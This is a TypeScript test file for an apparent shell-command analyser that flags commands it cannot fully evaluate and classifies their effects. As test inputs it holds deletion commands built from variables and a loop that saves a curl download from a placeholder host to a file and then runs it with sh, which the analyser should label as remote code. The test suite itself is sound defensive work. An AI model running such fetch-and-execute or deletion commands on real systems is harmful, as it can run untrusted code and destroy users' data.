import { describe, expect, test } from 'bun:test';
import { gapsIn, read, runs } from './reads.ts';

/** A variable that may have nine values, the given one last. */
function anyOf(name: string, last: string): string {
  const values = [...'12345678', last];
  return `case $Q in ${values.map((value) => `${value}0) ${name}='${value}';;`).join(' ')} esac; `;
}

/** Two of them: more combinations than are read, and what is meant is the last. */
const TWO = `${anyOf('A', '')}${anyOf('B', '/x')}`;

describe('readCommand with words of many values', () => {
  test.each([
    'rm $A$B',
    'for x in $A$B; do rm $x; done',
    '{ echo x; } > $A$B',
    'case $(rm $A$B) in x) ;; esac',
    '[[ -n $(rm $A$B) ]]',
    '(( x = $(rm $A$B) ))',
    'for (( x = $(rm $A$B); x < 1; x++ )); do true; done',
  ])('says of %p that it was not read for all of them', (text) => {
    expect(gapsIn(TWO + text)).toContain('too_many_steps');
  });

  test('remembers what a group leaves in each of several files', () => {
    const { commands } = read('for f in a b; do { curl https://x.example; } > $f; done; sh b');
    expect(commands.flatMap(({ effects }) => effects).map(({ type }) => type)).toContain('remote_code');
  });

  test('reads each of several inputs of a group', () => {
    const lines = runs('for x in "rm a" "rm b"; do { sh; } <<< "$x"; done');
    expect(lines).toContain('rm a');
    expect(lines).toContain('rm b');
  });
});
